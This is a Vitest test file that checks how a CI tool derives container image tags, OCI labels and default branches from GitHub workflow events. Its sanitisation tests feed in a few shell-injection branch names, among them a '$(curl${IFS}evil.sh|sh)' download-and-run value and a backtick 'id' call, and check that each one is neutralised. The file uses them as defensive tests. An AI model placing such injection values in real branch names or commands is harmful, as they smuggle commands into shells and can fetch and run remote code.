import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { ContextError, InputError } from '../../../src/domain/errors.js';
import { buildRunContext } from '../../../src/domain/plan/run-context.js';
import { computeTags, ociLabels, resolveDefaultBranch, sanitizeTag } from '../../../src/domain/plan/tags.js';
import type { RunContext } from '../../../src/domain/types.js';

const SHA = '0ccf1ae1bf4c7d610115754eef7bf8c60e7f167e';

function ctx(overrides: Partial<RunContext> = {}): RunContext {
  return {
    eventName: 'push',
    ref: 'refs/heads/main',
    sha: SHA,
    repository: 'Ftmo-Labs/dax-trading',
    owner: 'Ftmo-Labs',
    workspace: '/home/runner/work/dax-trading/dax-trading',
    serverUrl: 'https://github.com',
    apiUrl: 'https://api.github.com',
    runId: '11873456201',
    actor: 'jana-novak',
    payloadDefaultBranch: 'main',
    ...overrides,
  };
}

function fixture(name: string): unknown {
  return JSON.parse(readFileSync(new URL(`../../fixtures/events/${name}`, import.meta.url), 'utf8'));
}

function fromFixture(file: string, eventName: string, ref: string, sha: string): RunContext {
  const env = {
    GITHUB_EVENT_NAME: eventName,
    GITHUB_REF: ref,
    GITHUB_SHA: sha,
    GITHUB_REPOSITORY: 'Ftmo-Labs/dax-trading',
    GITHUB_REPOSITORY_OWNER: 'Ftmo-Labs',
    GITHUB_WORKSPACE: '/home/runner/work/dax-trading/dax-trading',
  };
  return buildRunContext(env, fixture(file));
}

/** `sourceCommit` is the built commit (checkout.ts decides it); GITHUB_SHA unless given. */
function tagsFor(context: RunContext, options: { defaultBranch?: string; shaLength?: number; extraTags?: string[]; sourceCommit?: string } = {}) {
  return computeTags(context, {
    defaultBranch: options.defaultBranch ?? resolveDefaultBranch('', context),
    shaLength: options.shaLength ?? 7,
    extraTags: options.extraTags ?? [],
    sourceCommit: options.sourceCommit ?? context.sha,
  });
}

describe('computeTags: every row of the contract, from event payloads', () => {
  // pull_request.json's pull request #42 (feature/risk-limits at e84cc64, same repository),
  // whether the run is its pull_request or its pull_request_target, with its head checked out.
  const SAME_REPOSITORY_PULL_REQUEST = {
    refKind: 'pull_request',
    refName: 'feature/risk-limits',
    version: 'pr-42-e84cc64',
    tags: ['pr-42', 'pr-42-e84cc64'],
    immutableTags: ['pr-42', 'pr-42-e84cc64'],
    latest: false,
    releaseAliases: [],
    sourceCommit: 'e84cc64499f50d72071c1a2ce65752ff3838f03f',
  };
  const rows = [
    {
      what: 'push to the default branch',
      file: 'push.json',
      event: 'push',
      ref: 'refs/heads/main',
      sha: '0ccf1ae1bf4c7d610115754eef7bf8c60e7f167e',
      expected: {
        refKind: 'branch',
        refName: 'main',
        version: 'main-0ccf1ae',
        tags: ['main-0ccf1ae', 'latest'],
        immutableTags: ['main-0ccf1ae'],
        latest: true,
        releaseAliases: [],
        sourceCommit: '0ccf1ae1bf4c7d610115754eef7bf8c60e7f167e',
      },
    },
    {
      what: 'pull_request from a branch of the same repository, its head checked out: pr-N and pr-N-<head sha>, never the branch tag',
      file: 'pull_request.json',
      event: 'pull_request',
      ref: 'refs/pull/42/merge',
      sha: 'f1d92115a540de598e6500f645c822269b7cd8e4',
      built: 'e84cc64499f50d72071c1a2ce65752ff3838f03f',
      expected: SAME_REPOSITORY_PULL_REQUEST,
    },
    {
      what: 'pull_request with the merge commit checked out (the checkout default): the merge commit names the image',
      file: 'pull_request.json',
      event: 'pull_request',
      ref: 'refs/pull/42/merge',
      sha: 'f1d92115a540de598e6500f645c822269b7cd8e4',
      built: 'f1d92115a540de598e6500f645c822269b7cd8e4',
      expected: {
        refKind: 'pull_request',
        refName: 'feature/risk-limits',
        version: 'pr-42-f1d9211',
        tags: ['pr-42', 'pr-42-f1d9211'],
        immutableTags: ['pr-42', 'pr-42-f1d9211'],
        latest: false,
        releaseAliases: [],
        sourceCommit: 'f1d92115a540de598e6500f645c822269b7cd8e4',
      },
    },
    {
      what: 'pull_request from a fork (same tags; pushing is decided elsewhere)',
      file: 'pull_request_fork.json',
      event: 'pull_request',
      ref: 'refs/pull/57/merge',
      sha: '8b8cad0a7cd8bc5775e1b7ac8070ad7901aa429b',
      built: '9a6d6fe8030a011fac5c4cb5b2ff3b3212a28dc8',
      expected: {
        refKind: 'pull_request',
        refName: 'fix/retry-typo',
        version: 'pr-57-9a6d6fe',
        tags: ['pr-57', 'pr-57-9a6d6fe'],
        immutableTags: ['pr-57', 'pr-57-9a6d6fe'],
        latest: false,
        releaseAliases: [],
        sourceCommit: '9a6d6fe8030a011fac5c4cb5b2ff3b3212a28dc8',
      },
    },
    {
      what: 'pull_request_target runs on the base branch ref but still gets pull request tags, never latest',
      file: 'pull_request.json',
      event: 'pull_request_target',
      ref: 'refs/heads/main',
      sha: '9bf9df18db7e66a582c4dbb5dde49694c3df8805',
      built: 'e84cc64499f50d72071c1a2ce65752ff3838f03f',
      expected: SAME_REPOSITORY_PULL_REQUEST,
    },
    {
      what: 'pull_request_target from a fork (refused elsewhere; the tags are still well defined)',
      file: 'pull_request_target_fork.json',
      event: 'pull_request_target',
      ref: 'refs/heads/main',
      sha: '9bf9df18db7e66a582c4dbb5dde49694c3df8805',
      built: 'a41e2b6cfc3f3d7e0d4c7f1e2b9a8d6c5e4f3a21',
      expected: {
        refKind: 'pull_request',
        refName: 'patch-1',
        version: 'pr-58-a41e2b6',
        tags: ['pr-58', 'pr-58-a41e2b6'],
        immutableTags: ['pr-58', 'pr-58-a41e2b6'],
        latest: false,
        releaseAliases: [],
        sourceCommit: 'a41e2b6cfc3f3d7e0d4c7f1e2b9a8d6c5e4f3a21',
      },
    },
    {
      what: 'push of a semver tag with v prefix',
      file: 'tag.json',
      event: 'push',
      ref: 'refs/tags/v1.4.2',
      sha: '5e9b60f69165f32f8930843ca718e10fdee30c52',
      expected: {
        refKind: 'tag',
        refName: 'v1.4.2',
        version: '1.4.2',
        tags: ['1.4.2', '1.4', '1'],
        // 1.4 and 1 are not pushed by the build: promoted after the scan gate, to newer releases only.
        immutableTags: ['1.4.2'],
        latest: false,
        releaseAliases: ['1.4', '1'],
        sourceCommit: '5e9b60f69165f32f8930843ca718e10fdee30c52',
      },
    },
    {
      what: 'workflow_dispatch on the default branch',
      file: 'workflow_dispatch.json',
      event: 'workflow_dispatch',
      ref: 'refs/heads/main',
      sha: '05b145cfb6fbc24d08a8e01155c0aa2bf8460c87',
      expected: {
        refKind: 'branch',
        refName: 'main',
        version: 'main-05b145c',
        tags: ['main-05b145c', 'latest'],
        immutableTags: ['main-05b145c'],
        latest: true,
        releaseAliases: [],
        sourceCommit: '05b145cfb6fbc24d08a8e01155c0aa2bf8460c87',
      },
    },
    {
      what: 'workflow_dispatch on another branch',
      file: 'workflow_dispatch.json',
      event: 'workflow_dispatch',
      ref: 'refs/heads/develop',
      sha: '05b145cfb6fbc24d08a8e01155c0aa2bf8460c87',
      expected: {
        refKind: 'branch',
        refName: 'develop',
        version: 'develop-05b145c',
        tags: ['develop-05b145c'],
        immutableTags: ['develop-05b145c'],
        latest: false,
        releaseAliases: [],
        sourceCommit: '05b145cfb6fbc24d08a8e01155c0aa2bf8460c87',
      },
    },
    {
      what: 'schedule on the default branch',
      file: 'schedule.json',
      event: 'schedule',
      ref: 'refs/heads/main',
      sha: '11e9ba26c91a2db7452a5ef9ff7051e19b6b377a',
      expected: {
        refKind: 'branch',
        refName: 'main',
        version: 'main-11e9ba2',
        tags: ['main-11e9ba2', 'latest'],
        immutableTags: ['main-11e9ba2'],
        latest: true,
        releaseAliases: [],
        sourceCommit: '11e9ba26c91a2db7452a5ef9ff7051e19b6b377a',
      },
    },
  ];

  it.each(rows)('$what', (row) => {
    const built = 'built' in row ? row.built : undefined;
    expect(tagsFor(fromFixture(row.file, row.event, row.ref, row.sha), { sourceCommit: built })).toEqual(row.expected);
  });
});

describe('computeTags: branch names are sanitised', () => {
  const rows: [string, string][] = [
    ['feature/login-page', 'feature-login-page-0ccf1ae'],
    ['release/2026.11', 'release-2026.11-0ccf1ae'],
    ['Feature/ÜberCool', 'Feature-berCool-0ccf1ae'],
    ['fix/日本語', 'fix--0ccf1ae'],
    ['.hidden', 'hidden-0ccf1ae'],
    ['--.-weird', 'weird-0ccf1ae'],
    ['-/.x', 'x-0ccf1ae'],
    ['_private', '_private-0ccf1ae'],
    ['a   b\tc', 'a-b-c-0ccf1ae'],
    ['feat/$(curl${IFS}evil.sh|sh)', 'feat-curl-IFS-evil.sh-sh--0ccf1ae'],
    ['zzz";echo${IFS}"hello";#', 'zzz-echo-IFS-hello--0ccf1ae'],
    ['feat/`id`', 'feat-id--0ccf1ae'],
    ['日本', '0ccf1ae'],
    ['...', '0ccf1ae'],
  ];
  it.each(rows)('%j -> %s', (branch, tag) => {
    const result = tagsFor(ctx({ ref: `refs/heads/${branch}` }));
    expect(result.tags).toEqual([tag]);
    expect(result.version).toBe(tag);
    expect(result.refName).toBe(branch);
  });

  it('cuts a 200-character branch name so the tag is 128 characters and the SHA stays whole', () => {
    const result = tagsFor(ctx({ ref: `refs/heads/${'a'.repeat(200)}` }));
    expect(result.version).toBe(`${'a'.repeat(120)}-0ccf1ae`);
    expect(result.version).toHaveLength(128);
  });

  it('keeps a 40-character SHA whole when cutting', () => {
    const result = tagsFor(ctx({ ref: `refs/heads/feature/${'b'.repeat(192)}` }), { shaLength: 40 });
    expect(result.version).toBe(`feature-${'b'.repeat(79)}-${SHA}`);
    expect(result.version).toHaveLength(128);
  });

  it('leaves a long pull request head branch out of the tags', () => {
    const context = ctx({
      eventName: 'pull_request',
      ref: 'refs/pull/9/merge',
      pullRequest: {
        number: 9,
        headRef: 'x'.repeat(300),
        headSha: 'e84cc64499f50d72071c1a2ce65752ff3838f03f',
        headRepo: 'Ftmo-Labs/dax-trading',
        baseRepo: 'Ftmo-Labs/dax-trading',
        fork: false,
      },
    });
    expect(tagsFor(context, { sourceCommit: 'e84cc64499f50d72071c1a2ce65752ff3838f03f', shaLength: 40 }).tags).toEqual([
      'pr-9',
      'pr-9-e84cc64499f50d72071c1a2ce65752ff3838f03f',
    ]);
  });
});

describe('computeTags: sha-length', () => {
  it.each([
    [7, 'main-0ccf1ae'],
    [12, 'main-0ccf1ae1bf4c'],
    [40, 'main-0ccf1ae1bf4c7d610115754eef7bf8c60e7f167e'],
  ])('%i characters -> %s', (shaLength, version) => {
    expect(tagsFor(ctx(), { shaLength }).version).toBe(version);
  });
});

describe('computeTags: latest only for push/dispatch/schedule on the default branch', () => {
  const rows: [string, Partial<RunContext>, string, boolean][] = [
    ['push on main, default main', {}, 'main', true],
    ['push on main, default-branch develop', {}, 'develop', false],
    ['push on develop, default-branch develop', { ref: 'refs/heads/develop' }, 'develop', true],
    ['push on a branch named like the default with a prefix', { ref: 'refs/heads/main2' }, 'main', false],
    ['repository_dispatch on main', { eventName: 'repository_dispatch' }, 'main', false],
    ['merge_group on main', { eventName: 'merge_group' }, 'main', false],
  ];
  it.each(rows)('%s', (_what, overrides, defaultBranch, latest) => {
    const result = tagsFor(ctx(overrides), { defaultBranch });
    expect(result.latest).toBe(latest);
    expect(result.tags.includes('latest')).toBe(latest);
    expect(result.immutableTags).not.toContain('latest');
  });
});

describe('computeTags: git tags', () => {
  const rows: [string, string[]][] = [
    ['v1.2.3', ['1.2.3', '1.2', '1']],
    ['1.2.3', ['1.2.3', '1.2', '1']],
    ['v0.3.0', ['0.3.0', '0.3', '0']],
    ['0.0.1', ['0.0.1', '0.0', '0']],
    ['v10.20.30', ['10.20.30', '10.20', '10']],
    ['v1.2.3+build.7', ['1.2.3', '1.2', '1']],
    ['v1.2.3-rc.1', ['1.2.3-rc.1']],
    ['1.0.0-alpha', ['1.0.0-alpha']],
    ['v1.2.3-rc.1+build.5', ['1.2.3-rc.1']],
    ['v0.9.0-beta.2', ['0.9.0-beta.2']],
    // Not semver: sanitised as any other tag.
    ['v1.2', ['v1.2']],
    ['v01.2.3', ['v01.2.3']],
    ['v1.2.3-01', ['v1.2.3-01']],
    ['V1.2.3', ['V1.2.3']],
    ['1.2.3+build+x', ['1.2.3-build-x']],
    ['release/2026-11', ['release-2026-11']],
    ['.hidden-tag', ['hidden-tag']],
    ['日本', ['0ccf1ae']],
  ];
  it.each(rows)('%s -> %j', (tag, tags) => {
    const result = tagsFor(ctx({ ref: `refs/tags/${tag}` }));
    expect(result.tags).toEqual(tags);
    expect(result.version).toBe(tags[0]);
    expect(result.refKind).toBe('tag');
    expect(result.refName).toBe(tag);
    expect(result.latest).toBe(false);
  });

  it('cuts a long tag to 128 characters', () => {
    expect(tagsFor(ctx({ ref: `refs/tags/${'t'.repeat(200)}` })).tags).toEqual(['t'.repeat(128)]);
  });

  it('treats a prerelease too long for a tag as an ordinary tag', () => {
    const name = `v1.2.3-${'a'.repeat(130)}`;
    expect(tagsFor(ctx({ ref: `refs/tags/${name}` })).tags).toEqual([`v1.2.3-${'a'.repeat(121)}`]);
  });

  it.each([
    ['latest', 'latest'],
    ['.latest', 'latest'],
    ['pr-5', 'pr-5'],
    ['pr/12', 'pr-12'],
    ['pr-5-abc1234', 'pr-5-abc1234'],
    ['pr-5-0ccf1ae1bf4c7d610115754eef7bf8c60e7f167e', 'pr-5-0ccf1ae1bf4c7d610115754eef7bf8c60e7f167e'],
  ])('refuses the git tag %j: its image tag %j belongs to other builds', (tag, imageTag) => {
    const run = (): unknown => tagsFor(ctx({ ref: `refs/tags/${tag}` }));
    expect(run).toThrow(ContextError);
    expect(run).toThrow(`image tag ${imageTag},`);
    expect(run).toThrow(/GITHUB_REF: refused/);
  });

  it.each([
    ['Latest', 'Latest'],
    ['latest-2', 'latest-2'],
    ['pr-x', 'pr-x'],
    ['pr-5-fix', 'pr-5-fix'],
    ['PR-5', 'PR-5'],
    ['pr-5-abc-1', 'pr-5-abc-1'],
  ])('keeps the git tag %j, which is no other build\'s tag (%j)', (tag, imageTag) => {
    expect(tagsFor(ctx({ ref: `refs/tags/${tag}` })).tags).toEqual([imageTag]);
  });

  it('does not move latest for a tag on any event', () => {
    const result = tagsFor(ctx({ eventName: 'workflow_dispatch', ref: 'refs/tags/v2.0.0' }), { defaultBranch: 'main' });
    expect(result.tags).toEqual(['2.0.0', '2.0', '2']);
    expect(result.latest).toBe(false);
  });
});

describe('computeTags: other runs', () => {
  it('a pull request review event on refs/pull/N/merge gets the pull request row', () => {
    const context = ctx({
      eventName: 'pull_request_review',
      ref: 'refs/pull/42/merge',
      pullRequest: {
        number: 42,
        headRef: 'feature/risk-limits',
        headSha: 'e84cc64499f50d72071c1a2ce65752ff3838f03f',
        headRepo: 'Ftmo-Labs/dax-trading',
        baseRepo: 'Ftmo-Labs/dax-trading',
        fork: false,
      },
    });
    expect(tagsFor(context).tags).toEqual(['pr-42', 'pr-42-0ccf1ae']);
  });

  it('a ref that is neither a branch nor a tag gets the SHA only', () => {
    const result = tagsFor(ctx({ ref: '' }));
    expect(result).toEqual({
      refKind: 'other',
      refName: '',
      version: '0ccf1ae',
      tags: ['0ccf1ae'],
      immutableTags: ['0ccf1ae'],
      latest: false,
      releaseAliases: [],
      sourceCommit: SHA,
    });
  });

  it('the head branch name plays no part in pull request tags', () => {
    const context = ctx({
      eventName: 'pull_request',
      ref: 'refs/pull/3/merge',
      pullRequest: { number: 3, headRef: 'äöü', headSha: SHA, headRepo: 'a/b', baseRepo: 'a/b', fork: false },
    });
    expect(tagsFor(context).tags).toEqual(['pr-3', 'pr-3-0ccf1ae']);
  });

  it('the built commit, not GITHUB_SHA, names the image: tags and source commit', () => {
    const built = 'e84cc64499f50d72071c1a2ce65752ff3838f03f';
    const result = tagsFor(ctx(), { sourceCommit: built });
    expect(result.tags).toEqual(['main-e84cc64', 'latest']);
    expect(result.sourceCommit).toBe(built);
  });
});

describe('computeTags: extra-tags', () => {
  it('adds them after the rule tags, on every event, without duplicates', () => {
    const result = tagsFor(ctx(), { extraTags: ['stable', 'main-0ccf1ae', 'stable', 'prod-candidate'] });
    expect(result.tags).toEqual(['main-0ccf1ae', 'latest', 'stable', 'prod-candidate']);
    expect(result.immutableTags).toEqual(['main-0ccf1ae', 'stable', 'prod-candidate']);
    expect(result.version).toBe('main-0ccf1ae');
  });

  it('adds them on pull requests too', () => {
    const context = fromFixture('pull_request.json', 'pull_request', 'refs/pull/42/merge', 'f1d92115a540de598e6500f645c822269b7cd8e4');
    expect(tagsFor(context, { extraTags: ['review'] }).tags).toEqual(['pr-42', 'pr-42-f1d9211', 'review']);
  });

  it.each(['latest', '-x', 'has space', 'ü'])('refuses %j (latest only comes from the rules)', (extra) => {
    expect(() => tagsFor(ctx(), { extraTags: [extra] })).toThrow(InputError);
    expect(() => tagsFor(ctx(), { extraTags: [extra] })).toThrow(/Input 'extra-tags'/);
  });
});

describe('sanitizeTag', () => {
  it.each([
    ['main', 'main'],
    ['feature/a/b', 'feature-a-b'],
    ['a//b', 'a-b'],
    ['CamelCase', 'CamelCase'],
    ['..a', 'a'],
    ['-.-a-.', 'a-.'],
    ['a b', 'a-b'],
    ['ä', ''],
    ['x😀y', 'x-y'],
    ['tab\there', 'tab-here'],
    ['', ''],
  ])('%j -> %j', (input, output) => {
    expect(sanitizeTag(input)).toBe(output);
  });
});

describe('resolveDefaultBranch', () => {
  it.each([
    ['develop', 'main', 'develop'],
    ['', 'trunk', 'trunk'],
    ['', '', 'main'],
  ])('input %j, payload %j -> %j', (input, payload, expected) => {
    expect(resolveDefaultBranch(input, ctx({ payloadDefaultBranch: payload }))).toBe(expected);
  });

  it('reads the default branch from a real payload', () => {
    const context = fromFixture('push.json', 'push', 'refs/heads/main', SHA);
    expect(resolveDefaultBranch('', context)).toBe('main');
  });
});

describe('ociLabels', () => {
  it('gives source, revision, version, created and title in that order', () => {
    const labels = ociLabels(ctx({ serverUrl: 'https://github.example.com/' }), {
      service: 'signal-generation-engine',
      version: 'main-0ccf1ae',
      sourceCommit: SHA,
      created: '2026-11-20T09:41:02.000Z',
    });
    expect(labels).toEqual([
      { key: 'org.opencontainers.image.source', value: 'https://github.example.com/Ftmo-Labs/dax-trading' },
      { key: 'org.opencontainers.image.revision', value: '0ccf1ae1bf4c7d610115754eef7bf8c60e7f167e' },
      { key: 'org.opencontainers.image.version', value: 'main-0ccf1ae' },
      { key: 'org.opencontainers.image.created', value: '2026-11-20T09:41:02.000Z' },
      { key: 'org.opencontainers.image.title', value: 'signal-generation-engine' },
    ]);
  });
});
